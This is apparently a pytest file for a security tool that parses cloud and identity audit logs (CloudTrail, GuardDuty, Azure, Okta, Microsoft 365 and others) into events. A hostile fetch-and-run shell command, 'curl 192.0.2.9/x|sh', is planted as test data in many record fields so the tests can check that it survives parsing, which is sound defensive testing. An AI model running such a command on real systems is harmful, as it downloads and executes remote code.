"""Logs of clouds and services: all that a record says is judged, in whatever it is delivered."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from overproof.events.sources import Columns
from overproof.events.sources.cloud.records import LOGS, log_of, to_event

from .independent import jq

EVIL = "curl 192.0.2.9/x|sh"
GUID = "12345678-1234-1234-1234-123456789012"
TIME = "2023-10-01T12:34:56Z"
CLOUDTRAIL = {
    "eventVersion": "1.08",
    "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::123456789012:user/GitLab", "userName": "GitLab"},
    "eventTime": TIME,
    "eventSource": "ssm.amazonaws.com",
    "eventName": "SendCommand",
    "sourceIPAddress": "192.0.2.7",
    "userAgent": "aws-cli/2.0.0",
    "requestParameters": {"documentName": "AWS-RunShellScript", "parameters": {"commands": ["id", EVIL]}},
    "responseElements": None,
    "eventID": GUID,
    "readOnly": False,
}
GUARDDUTY = {
    "schemaVersion": "2.0",
    "type": "UnauthorizedAccess:EC2/SSHBruteForce",
    "severity": 8,
    "updatedAt": TIME,
    "service": {"action": {"networkConnectionAction": {"remoteIpDetails": {"ipAddressV4": "192.0.2.7"}}}},
    "resource": {"instanceDetails": {"tags": [{"key": "Name", "value": EVIL}, {"key": "b", "value": "c"}]}},
}
GOOGLE = {
    "insertId": "a",
    "timestamp": TIME,
    "severity": "NOTICE",
    "protoPayload": {
        "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
        "serviceName": "iam.googleapis.com",
        "methodName": "google.iam.admin.v1.CreateServiceAccount",
        "authenticationInfo": {"principalEmail": "mallory@example.com"},
        "requestMetadata": {"callerIp": "192.0.2.7"},
        "request": {"account_id": EVIL},
    },
}
AZURE = {
    "time": TIME,
    "resourceId": "/tenants/T/providers/Microsoft.aadiam",
    "operationName": "Sign-in activity",
    "category": "SignInLogs",
    "callerIpAddress": "192.0.2.7",
    "correlationId": GUID,
    "identity": "Mallory",
    "properties": {"userAgent": EVIL, "status": {"errorCode": 50140}},
}
ACTIVITY = {
    "caller": "mallory@example.com",
    "eventDataId": GUID,
    "eventTimestamp": TIME,
    "operationName": {"value": "Microsoft.Compute/virtualMachines/runCommand/action", "localizedValue": "Run"},
    "httpRequest": {"clientIpAddress": "192.0.2.7", "method": "PUT"},
    "properties": {"requestbody": EVIL},
}
SIGNIN = {
    "id": GUID,
    "createdDateTime": TIME,
    "userPrincipalName": "mallory@example.com",
    "appDisplayName": "Graph explorer",
    "ipAddress": "192.0.2.7",
    "userAgent": EVIL,
}
MICROSOFT = {
    "CreationTime": TIME.removesuffix("Z"),
    "Id": GUID,
    "Operation": "New-InboxRule",
    "OrganizationId": GUID,
    "RecordType": 1,
    "Workload": "Exchange",
    "ClientIP": "192.0.2.7",
    "UserId": "mallory@example.com",
    "Parameters": [{"Name": "ForwardTo", "Value": EVIL}, {"Name": "Name", "Value": "."}],
}
OKTA = {
    "uuid": GUID,
    "published": TIME,
    "eventType": "user.session.start",
    "displayMessage": "User login to Okta",
    "actor": {"alternateId": "mallory@example.com", "displayName": "Mallory"},
    "client": {"ipAddress": "192.0.2.7", "userAgent": {"rawUserAgent": EVIL}},
    "request": {"ipChain": [{"ip": "192.0.2.7"}]},
    "debugContext": {"debugData": {"requestUri": "/idp/x", "url": "/idp/x?a=1"}},
}
INSIGHT = {
    "eventVersion": "1.07",
    "eventTime": TIME,
    "eventType": "AwsCloudTrailInsight",
    "insightDetails": {
        "eventSource": "iam.amazonaws.com",
        "eventName": "AttachUserPolicy",
        "insightContext": {"attributions": [{"attribute": "userAgent", "insight": [{"value": EVIL, "average": 2.0}]}]},
    },
    "eventID": GUID,
}
OPERATIONAL = {
    "resourceId": "/SUBSCRIPTIONS/S/PROVIDERS/MICROSOFT.EVENTHUB/NAMESPACES/N",
    "category": "OperationalLogs",
    "EventName": "Retrieve ConsumerGroup",
    "EventProperties": json.dumps({"Via": EVIL}),
    "callerIpAddress": "192.0.2.7",
    "identity": "mallory@example.com",
    "time": TIME,
}
DEFENDER = {
    "time": TIME,
    "tenantId": GUID,
    "operationName": "Publish",
    "category": "AdvancedHunting-DeviceProcessEvents",
    "properties": {
        "Timestamp": TIME,
        "ActionType": "ProcessCreated",
        "AccountName": "mallory",
        "RemoteIP": "192.0.2.7",
        "ProcessCommandLine": EVIL,
    },
}
DIRECTORY = {
    "id": GUID,
    "activityDateTime": TIME,
    "activityDisplayName": "Add member to role",
    "initiatedBy": {"app": None, "user": {"userPrincipalName": "mallory@example.com", "ipAddress": "192.0.2.7"}},
    "targetResources": [{"displayName": EVIL}],
}
UPPER = {key[0].upper() + key[1:]: value for key, value in GUARDDUTY.items()}
RECORDS = {
    "cloudtrail ssm.amazonaws.com SendCommand ": CLOUDTRAIL,
    "guardduty UnauthorizedAccess:EC2/SSHBruteForce ": GUARDDUTY,
    "google-audit iam.googleapis.com google.iam.admin.v1.CreateServiceAccount ": GOOGLE,
    "azure SignInLogs Sign-in activity ": AZURE,
    "azure-activity Microsoft.Compute/virtualMachines/runCommand/action ": ACTIVITY,
    "entra-signin Graph explorer ": SIGNIN,
    "microsoft365 Exchange New-InboxRule ": MICROSOFT,
    "okta user.session.start ": OKTA,
    "cloudtrail-insight iam.amazonaws.com AttachUserPolicy ": INSIGHT,
    "azure OperationalLogs Retrieve ConsumerGroup ": OPERATIONAL,
    "defender AdvancedHunting-DeviceProcessEvents ProcessCreated ": DEFENDER,
    "entra-audit Add member to role ": DIRECTORY,
}
# how they are delivered, and where jq finds them in that
DELIVERED: dict[str, tuple[Any, dict[str, Any]]] = {
    ".Records[]": (lambda records: {"Records": records}, CLOUDTRAIL),
    ".Events[].CloudTrailEvent | fromjson": (
        lambda records: {"Events": [{"EventId": GUID, "CloudTrailEvent": json.dumps(each)} for each in records]},
        CLOUDTRAIL,
    ),
    ".detail": (lambda records: {"detail-type": "GuardDuty Finding", "time": TIME, "detail": records[0]}, GUARDDUTY),
    ".Findings[]": (lambda records: {"Findings": records}, UPPER),
    ".records[]": (lambda records: {"records": records}, AZURE),
    ".value[]": (lambda records: {"@odata.context": "https://graph", "value": records}, SIGNIN),
    ".AuditData | fromjson": (
        lambda records: {"CreationDate": TIME, "Operations": "x", "AuditData": json.dumps(records[0])},
        MICROSOFT,
    ),
    ".data.events[]": (
        lambda records: {"eventTypeVersion": "1.0", "cloudEventsVersion": "0.1", "data": {"events": records}},
        OKTA,
    ),
    ".[]": (lambda records: records, GOOGLE),
}


@pytest.mark.parametrize("start", RECORDS)
def test_a_record_is_told_by_its_keys_and_written_whole(read, start: str) -> None:
    table, rejects = read("a.log", f"{json.dumps(RECORDS[start])}\r\n".encode())
    (event,) = table.to_pylist()
    assert event["text"].startswith(start) and EVIL in event["text"]
    assert GUID not in event["text"] and TIME not in event["text"], "identifiers and times are no content"
    assert (event["time"], rejects.total) == (TIME, 0)
    if start.partition(" ")[0] not in ("guardduty", "cloudtrail-insight"):
        assert event["user"].split("@")[0].lower() in ("gitlab", "mallory")
    assert event["src_ip"] == (None if "insight" in start else "192.0.2.7")
    assert event["kind"] == start.split(" ")[0]


@pytest.mark.parametrize(
    ("written", "address", "port"),
    [
        ("192.0.2.7:12345", "192.0.2.7", 12345),
        ("[2001:db8::7]:12346", "2001:db8::7", 12346),
        ("2001:db8::7", "2001:db8::7", None),
    ],
)
def test_a_port_is_no_part_of_an_address(read, written: str, address: str, port: int | None) -> None:
    table, _ = read("a.json", json.dumps(MICROSOFT | {"ClientIP": written}).encode())
    assert table.select(["src_ip", "src_port"]).to_pylist() == [{"src_ip": address, "src_port": port}]


@pytest.mark.parametrize(
    "action", ["networkConnectionAction", "awsApiCallAction", "kubernetesApiCallAction", "rdsLoginAttemptAction"]
)
def test_the_address_of_a_finding_is_that_of_its_action(read, action: str) -> None:
    service = {"action": {"actionType": "x", action: {"remoteIpDetails": {"ipAddressV4": "192.0.2.8"}}}}
    table, _ = read("a.json", json.dumps(GUARDDUTY | {"service": service}).encode())
    assert table["src_ip"].to_pylist() == ["192.0.2.8"]


@pytest.mark.parametrize("where", DELIVERED)
def test_what_it_is_delivered_in_is_taken_off(read, where: str) -> None:
    wrap, record = DELIVERED[where]
    log = log_of(record)
    assert log is not None
    data = json.dumps(wrap([record, record]), indent=2).encode()
    table, rejects = read("a.json", data)
    inside = jq(data, where)
    assert table["text"].to_pylist() == [to_event(log, each).text for each in inside]
    assert (inside[0], rejects.total) == (record, 0)


def test_pairs_of_name_and_value_are_one_part(read) -> None:
    table, _ = read("a.json", json.dumps(MICROSOFT).encode())
    assert f'Parameters.ForwardTo="{EVIL}" Parameters.Name=.' in table["text"].to_pylist()[0]


@pytest.mark.parametrize("own", [{"label": "attack"}, {"text": "judge me"}, {"Message": "judge me"}])
def test_what_has_a_text_or_a_label_of_its_own_is_a_table(read, own: dict[str, str]) -> None:
    rows = json.dumps(CLOUDTRAIL | {"text": "judge me"} | own).encode()
    table, _ = read("a.jsonl", rows)
    assert table["text"].to_pylist() == ["judge me"]
    table, _ = read("a.jsonl", json.dumps(CLOUDTRAIL).encode(), columns=Columns(text="userAgent"))
    assert table["text"].to_pylist() == ["aws-cli/2.0.0"], "a column that is named is what is judged"


def test_other_objects_between_are_counted(read) -> None:
    lines = [json.dumps(CLOUDTRAIL), '{"eventName": "x"}', "[1]", "", json.dumps(OKTA), '{"eventTime": ']
    table, rejects = read("a.log", "\n".join(lines).encode(), format="cloud")
    assert table["kind"].to_pylist() == ["cloudtrail", "okta"]
    assert rejects.summary() == {
        "not a record of a cloud's or service's log": 1,
        "JSON is not an object": 1,
        "JSON does not parse": 1,
    }


def test_names_without_end_take_no_memory_without_end(read) -> None:
    deep = {"k" * 100_000: {str(number): {} for number in range(5000)} | {"x": EVIL}}
    table, _ = read("a.json", json.dumps(CLOUDTRAIL | {"requestParameters": deep}).encode())
    (text,) = table["text"].to_pylist()
    assert EVIL in text and len(text) < 400_000


values = st.recursive(
    st.text(max_size=9) | st.integers() | st.booleans() | st.none(),
    lambda inside: st.lists(inside, max_size=4) | st.dictionaries(st.text(max_size=5), inside, max_size=4),
    max_leaves=12,
)


@given(st.sampled_from(LOGS), values)
def test_whatever_a_record_holds_is_in_its_text(log, value: object) -> None:
    text = to_event(log, {"held": value}).text

    def leaves(value: object):
        for each in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
            yield from leaves(each)
        if isinstance(value, str):
            yield value

    assert all(leaf in text for leaf in leaves(value))
